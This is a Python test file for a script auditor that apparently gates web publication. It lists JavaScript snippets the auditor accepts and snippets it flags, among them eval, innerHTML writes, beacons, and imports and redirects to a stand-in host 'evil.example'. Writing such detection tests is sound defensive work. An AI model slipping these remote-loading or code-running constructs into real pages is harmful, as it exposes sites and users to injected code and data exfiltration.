import pytest

from publication_gate.audit.problems import RefusedMarkup, RemoteFetch
from publication_gate.audit.script_audit import audit_script, audit_source_map


@pytest.mark.parametrize(
    "text",
    [
        "",
        "import { plain } from './plain-text.js';\nimport tables from '/site/theme/tables.js';",
        "const XMP = 'http://ns.adobe.com/xap/1.0/\\0';",
        "element.textContent = `Voir ${address}`; // https://x.example",
        "const prefetched = 1, functional = 2, relocation = 3, important = 4;",
        "if (location.hash === '#a' && location == here) link.href = URL.createObjectURL(file);",
    ],
)
def test_accepts(text, own):
    assert list(audit_script(text, own)) == []


@pytest.mark.parametrize(
    "text",
    [
        "fetch('/x')",
        "new XMLHttpRequest()",
        "new WebSocket('wss://evil.example')",
        "new EventSource('/x')",
        "navigator.sendBeacon('/x')",
        "navigator.serviceWorker.register('/x.js')",
        "new SharedWorker('/x.js')",
        "new RTCPeerConnection()",
        "import('https://evil.example/x.js')",
        "await import (address)",
        "eval(text)",
        "new Function('return 1')",
        "main.innerHTML = text",
        "document.write('<img src=//evil.example>')",
        "window.open('https://evil.example')",
        "location = 'https://evil.example'",
        "location.href='https://evil.example'",
        "window.location.replace('https://evil.example')",
    ],
)
def test_refuses_what_fetches_or_runs(text, own):
    assert any(isinstance(found, RefusedMarkup) for found in audit_script(text, own))


@pytest.mark.parametrize(
    "text",
    [
        "import 'https://evil.example/x.js'",
        'import x from "//evil.example/x.js"',
        "export * from 'data:text/javascript,x'",
    ],
)
def test_refuses_a_module_of_another_host(text, own):
    assert any(isinstance(found, RemoteFetch) for found in audit_script(text, own))


def test_refuses_the_map_of_another_host_only(own):
    assert list(audit_source_map("/*# sourceMappingURL=style.css.map */", own)) == []
    (found,) = audit_source_map("//# sourceMappingURL=https://evil.example/x.map\n", own)
    assert found == RemoteFetch("sourceMappingURL", "https://evil.example/x.map")
